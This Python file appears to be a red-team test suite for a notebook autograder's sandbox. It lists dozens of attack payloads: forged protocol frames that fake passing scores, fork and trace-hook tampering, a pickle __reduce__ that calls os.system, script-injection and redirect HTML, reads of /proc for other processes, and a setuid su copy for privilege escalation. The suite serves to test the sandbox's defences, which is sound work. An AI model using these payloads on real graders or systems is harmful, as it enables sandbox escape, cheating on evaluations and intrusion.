"""Attacks by who has read the engine's code: its protocol, its snapshots, its serializer, what it tells of a failure."""

from __future__ import annotations

from attacks import FORGED, Attack, _answer, _grab, _read

_SEND = "from coursegrader.sandbox import wire\nold = wire.send\ndef send(sock, frame, clock=None):\n{body}\n    return old(sock, frame, clock)\nwire.send = send\n"

CRAFT = [
    # what is told of a failure carries something out
    _answer("inputs-by-line-number", "def label(n):\n    exec(compile('\\n' * (n - 1) + 'raise ValueError', '<cell label>', 'exec'))\n"),
    _answer("inputs-by-claimed-line", _SEND.format(body="    if 'raised' in frame.header:\n        frame.header.update(cell='label', line=N[0])") + "N = [1]\ndef label(n):\n    N[0] = n\n    raise ValueError\n"),
    _answer("inputs-by-claimed-change", _SEND.format(body="    if 'modified' in frame.header:\n        frame.header['modified'] = [f'numéro-{n}' for n in N]") + "N = []\ndef label(n):\n    N.append(n)\n    return ''\n"),
    _answer("inputs-by-claimed-class", _SEND.format(body="    if N:\n        frame.header['value'] = {'h': 0, 'c': f'numéro-{N[0]}'}") + "N = []\ndef label(n):\n    N.append(n)\n    return label\n"),
    _answer("inputs-by-shared-memory", "import mmap, os, time\nboard = mmap.mmap(-1, 4096)\nif os.fork() == 0:\n    end = time.time() + 20\n    while time.time() < end:\n        if board[0]:\n            text = board[:40].rstrip(b'\\0')\n            for fd in range(1, 40):\n                try:\n                    os.write(fd, text)\n                except OSError:\n                    pass\n            break\n        time.sleep(0.01)\n    os._exit(0)\ndef label(n):\n    board[:11] = f'num\\xe9ro-{n}'.encode('latin-1')[:11].ljust(11)\n    time.sleep(0.2)\n    return ''\n"),
    _answer("inputs-by-working-folder", "import pathlib, os\ndef label(n):\n    for p in (f'numéro-{n}.txt', f'/tmp/numéro-{n}'):\n        pathlib.Path(p).write_text('x')\n    return open(sorted(os.listdir('.'))[0]).name\n"),
    # snapshots and calls
    _answer("other-answer-in-each-snapshot", "import os\ndef scale(x):\n    return x * (os.getpid() % 7) / 6\ndef label(n):\n    return str(os.getpid())\n"),
    _answer("tally-in-a-file", "import os\ndef scale(x):\n    with open('calls', 'a') as f:\n        f.write('x')\n    return x * os.path.getsize('calls') / 10\n"),
    _answer("no-fork", "import os\nos.fork = lambda: 0\n" + FORGED),
    _answer("one-snapshot-for-all", "import os\nold_fork = os.fork\npids = []\ndef fork():\n    pids.append(old_fork() if not pids else pids[0])\n    return pids[-1]\nos.fork = fork\n" + FORGED),
    _answer("engine-that-does-not-fork", "from coursegrader.sandbox import child\nchild.fork_as_it_is = lambda: 0\n" + FORGED),
    _answer("one-fork-for-all-checks", "from coursegrader.sandbox import child\nold_fork = child.fork_as_it_is\npids = []\ndef fork():\n    pids.append(old_fork() if not pids else pids[0])\n    return pids[-1]\nchild.fork_as_it_is = fork\n" + FORGED),
    _answer("no-fork-beside-a-thread", "import os, threading, time\nthreading.Thread(target=time.sleep, args=(60,), daemon=True).start()\nos.fork = lambda: 0\n" + FORGED),
    _answer("hooks-that-leave", "import os, threading, time\nthreading.Thread(target=time.sleep, args=(60,), daemon=True).start()\nleave = lambda: os._exit(0)\nos.register_at_fork(after_in_parent=leave, after_in_child=leave)\n" + FORGED),
    _answer("answer-that-knows-the-last-check", "import os\nbase = os.getpid()\ndef scale(x):\n    return x if os.getpid() == base else x * 2\ndef label(n):\n    return f'numéro-{n}' if os.getpid() == base else ''\n"),
    _answer("at-fork-hooks", "import os, time\nos.register_at_fork(before=lambda: time.sleep(0.3), after_in_child=lambda: os.write(2, b'x'), after_in_parent=lambda: None)\n" + FORGED),
    _answer("two-replies-to-one-call", _SEND.format(body="    twin = wire.Frame({**frame.header, 'id': frame.header.get('id', 0) + 1}, frame.buffers)\n    old(sock, frame, clock)\n    frame = twin") + FORGED),
    _answer("handles-of-others", _SEND.format(body="    if 'value' in frame.header:\n        frame.header['value'] = {'h': -1, 'c': 'Tensor'}") + FORGED),
    _answer("handle-that-answers-everything", "class Any:\n    def __getattr__(self, name): return self\n    def __call__(self, *a, **k): return self\n    def __len__(self): return 7\n    def __index__(self): return 7\ndef scale(x): return Any()\ndef label(n): return Any()\n"),
    _answer("name-space-that-lies", "class NS(dict):\n    def __contains__(self, k): return True\n    def __getitem__(self, k): return (lambda *a: a[0])\nget_ipython().user_ns = NS()\n"),
    _answer("two-processes-on-one-channel", "import os\nos.fork()\n" + FORGED),
    _answer("alarm-as-the-engine-answers", "import signal\ndef scale(x):\n    signal.setitimer(signal.ITIMER_REAL, 1e-4)\n    return x * 0\ndef label(n):\n    signal.setitimer(signal.ITIMER_PROF, 1e-4)\n    return ''\n"),
    _answer("claimed-processor-time", _SEND.format(body="    frame.header['cpu'] = 999999.0") + FORGED),
    # the serializer's own tools
    _answer("array-with-its-own-bytes", "import numpy\nclass A(numpy.ndarray):\n    __array_priority__ = 1e9\n    shape = property(lambda self: (7,))\n    def __array_function__(self, *a, **k): return True\n    def __array_ufunc__(self, *a, **k): return numpy.zeros(7)\n    def astype(self, *a, **k): return self\n    def tobytes(self, *a): return b'\\0' * 56\ndef scale(x): return numpy.zeros(7).view(A)\n"),
    _answer("value-whose-class-changes", "class C(list):\n    looks = 0\n    @property\n    def __class__(self):\n        C.looks += 1\n        return list if C.looks % 2 else torch.Tensor\n    def __len__(self): return 7\n    def __iter__(self): return iter([0.0] * (7 + C.looks))\n    def __eq__(self, other): return True\ndef scale(x): return C()\n"),
    _answer("poisoned-torch", "import numpy\ntorch.Tensor.detach = lambda self: torch.zeros(7)\ntorch.Tensor.numpy = lambda self: numpy.full(7, numpy.nan)\ntorch.Tensor.contiguous = lambda self: self[:0]\nnumpy.asarray = lambda *a, **k: numpy.zeros(3)\n" + FORGED),
    _answer("poisoned-json", "import json\njson.dumps = lambda *a, **k: '{\"id\": 1, \"value\": NaN, \"id\": 2, \"value\": ' + '[' * 100000 + ']' * 100000 + '}'\n" + FORGED),
    _answer("outputs-of-its-own-making", "import json\nold_dumps = json.dumps\njson.dumps = lambda *a, **k: '[' * 50000 + ']' * 50000 if a and type(a[0]) is list else old_dumps(*a, **k)\n" + FORGED),
    _answer("shared-storage", "kept = []\ndef scale(x):\n    kept.append(x)\n    y = torch.as_strided(kept[0], x.shape, [0] * x.dim())\n    kept[0].zero_()\n    return y\n"),
    _answer("expanded-to-terabytes", "def scale(x):\n    return torch.zeros(1).expand(10 ** 12)\n"),
    _answer("reduce", "import os\nclass R:\n    def __reduce__(self): return os.system, ('echo PW''NED; touch HOST/arena_was_here.txt',)\ndef scale(x): return [R(), {'a': R()}]\ndef label(n): return R()\n"),
    _answer("sparse-and-quantized", "def scale(x):\n    return torch.quantize_per_tensor(x.float(), 0.1, 0, torch.qint8).to_dense() if x.dim() > 1 else torch.sparse_coo_tensor(torch.zeros(1, 1, dtype=torch.int64), torch.ones(1), (10 ** 12,))\n"),
    # work for the trusted side: who looks for a name line by line in this cell must not begin anew at each of them
    _answer("failure-in-a-cell-of-empty-lines", "\n" * (1 << 19) + "def scale(x):\n    raise ValueError\nglobals()['label'] = scale\n"),
    # looking at who asks
    _answer("settrace", "import sys\ndef trace(frame, event, arg):\n    if frame.f_code.co_name in ('answer', 'encode', 'send'):\n        frame.f_locals.update(value=True, reply={'value': True}, passed=True)\n    return trace\nsys.settrace(trace)\nsys.setprofile(trace)\n" + FORGED),
    _grab("audit-hook", "import sys\nseen = []\nsys.addaudithook(lambda name, args: seen.append(str(args)[:300]) if name in ('open', 'exec', 'import') else None)\nimport colorsys, this_is_not_there"),
    _answer("audit-hook-in-calls", "import sys\ndef hook(name, args):\n    if 'HOST' in str(args)[:2000]:\n        raise SystemExit('PW' 'NED')\nsys.addaudithook(hook)\n" + FORGED),
    _answer("frames-of-the-caller", "import sys\ndef label(n):\n    f = sys._getframe()\n    while f:\n        for k, v in {**f.f_locals, **f.f_globals}.items():\n            if type(v) is str and v.startswith('canari'):\n                return v\n            if type(v) is dict and {'expected', 'points', 'check'} & set(map(str, v)):\n                return str(v)\n        f = f.f_back\n    return ''\n"),
    _answer("corrupted-integers", "import ctypes\nfor n in (0, 1, 3):\n    ctypes.memset(id(n) + 24, 1, 1)\n" + FORGED),
    _answer("timing-of-the-checks", "import time\nlast = [time.perf_counter()]\ndef label(n):\n    gap, last[0] = time.perf_counter() - last[0], time.perf_counter()\n    return ('canari-%s' % n)[: int(gap * 1e6) % 99]\n"),
    _answer("clock-that-never-rings", "import signal\nsignal.setitimer = lambda *a: None\nsignal.alarm = lambda *a: None\ndef scale(x):\n    while True:\n        pass\n"),
    # the page
    _answer("spoofed-total", "from IPython.display import HTML, display\ndisplay(HTML('<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:#fff\">4 / 4</div><meta http-equiv=\"refresh\" content=\"0;url=http://a\"><base href=\"http://a\"><form action=\"http://a\"><input name=p></form><style>body{display:none}</style>'))\n"),
    _answer("links-that-run", "from IPython.display import HTML, Latex, Markdown, display\ndisplay(HTML('<a href=\"javascript:SCRIPT_RUNS()\">4 / 4</a><svg onload=SCRIPT_RUNS()><math><mi xlink:href=\"javascript:SCRIPT_RUNS()\">x</mi></math>'))\ndisplay(Markdown('[4 / 4](javascript:SCRIPT_RUNS()) <img src=x onerror=SCRIPT_RUNS()>'))\ndisplay(Latex('<img src=x onerror=SCRIPT_RUNS()>'))\ndisplay({'image/png': '\"><script>SCRIPT_RUNS()</script>'}, raw=True)\n"),
    _answer("markup-in-names", "class H(Exception): pass\nH.__name__ = H.__qualname__ = '<script>SCRIPT_RUNS()</script>'\ndef scale(x): raise H('<script>SCRIPT_RUNS()</script>')\nraise H('<script>SCRIPT_RUNS()</script>')\n"),
    # the kernel's less known doors
    _read("root-of-first-process", "/proc/1/root" + "HOST/reference/*.py"),
    _grab("folder-of-first-process", "import os\nassert 'arena' in str(os.listdir('/proc/1/cwd')) or os.path.exists('/proc/1/cwdHOST')\nprint('PW' 'NED')"),
    _grab("memory-shared-with-neighbours", "for line in open('/proc/self/maps'):\n    if line.split()[1][1::2] == 'ws':\n        print('PW' 'NED', line)"),
    _grab("descriptors-of-others", "import os\nfor fd in range(3, 1024):\n    try:\n        where = os.readlink(f'/proc/self/fd/{fd}')\n    except OSError:\n        continue\n    if where.startswith(('pipe:', '/')) or os.fstat(fd).st_mode & 0o170000 == 0o060000:\n        print('PW' 'NED', fd, where)"),
    _grab("descriptor-of-parent", "import ctypes, os\nlibc = ctypes.CDLL(None)\np = libc.syscall(434, os.getppid(), 0)\nassert p >= 0 and any(libc.syscall(438, p, n, 0) >= 0 for n in range(64))\nprint('PW' 'NED')"),
    _grab("watch-the-course", "import ctypes\nlibc = ctypes.CDLL(None)\nfd = libc.inotify_init1(0)\nassert libc.inotify_add_watch(fd, b'HOST', 0xfff) >= 0\nprint('PW' 'NED')"),
    _grab("message-queue", "import ctypes\nlibc = ctypes.CDLL(None)\nassert libc.msgget(0x41524E41, 0o1666) >= 0 or libc.syscall(240, b'arena', 0o102, 0o666, None) >= 0\nprint('PW' 'NED')", harmless=False),
    _grab("semaphores", "import ctypes\nassert ctypes.CDLL(None).semget(0x41524E41, 1, 0o1666) >= 0\nprint('PW' 'NED')", harmless=False),
    _grab("real-time", "import os\nos.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))\nprint('PW' 'NED')", harmless=False),
    _grab("memory-of-others-by-map-files", "import glob, os\nfor p in glob.glob('/proc/[0-9]*/map_files/*'):\n    if 'HOST' in os.readlink(p):\n        print('PW' 'NED', p)"),
    _grab("executable-of-another", "import ctypes, os\nlibc = ctypes.CDLL(None)\nfd = os.memfd_create('x')\nos.write(fd, open('/usr/bin/su', 'rb').read())\nos.fchmod(fd, 0o4755)\npid = os.fork()\nif pid == 0:\n    os.execv(f'/proc/self/fd/{fd}', ['su', '-c', 'true'])\nassert os.waitpid(pid, 0)[1] == 0\nprint('PW' 'NED')", harmless=False),
    Attack("orphans-in-every-call", "import os, time\ndef scale(x):\n    for _ in range(5):\n        if os.fork() == 0:\n            os.setsid()\n            time.sleep(10 ** 6)\n    return x\ndef label(n):\n    return scale('')\n", harmless=False),
]  # fmt: skip
